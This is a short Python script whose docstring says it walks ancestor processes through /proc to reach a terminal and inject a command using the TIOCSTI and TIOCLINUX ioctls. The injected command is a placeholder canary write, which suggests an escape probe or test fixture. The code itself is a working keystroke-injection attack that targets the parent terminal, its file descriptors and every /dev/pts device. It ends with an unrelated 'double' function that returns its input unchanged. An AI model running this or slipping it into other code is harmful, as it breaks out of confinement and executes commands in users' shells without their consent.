"""Walks its ancestors in /proc to a terminal and pushes a command into it with TIOCSTI (and TIOCLINUX)."""

import fcntl
import os
import termios

COMMAND = b"echo __MARKER__ > __CANARY__\n"


def push(fd):
    for byte in COMMAND:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))


candidates = ["/dev/tty"]
pid = os.getpid()
for _ in range(64):
    try:
        stat = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    except OSError:
        break
    for fd in (0, 1, 2):
        candidates.append(f"/proc/{pid}/fd/{fd}")
    pid = int(stat[1])
    if pid <= 1:
        break
try:
    candidates += [f"/dev/pts/{n}" for n in os.listdir("/dev/pts") if n.isdigit()]
except OSError:
    pass
for fd in (0, 1, 2):
    try:
        push(fd)
    except OSError:
        pass
for path in candidates:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    try:
        push(fd)
    except OSError:
        pass
    try:
        fcntl.ioctl(fd, 0x541C, bytes([2]))  # TIOCLINUX: paste the selection
    except OSError:
        pass
    os.close(fd)


def double(x):
    return x
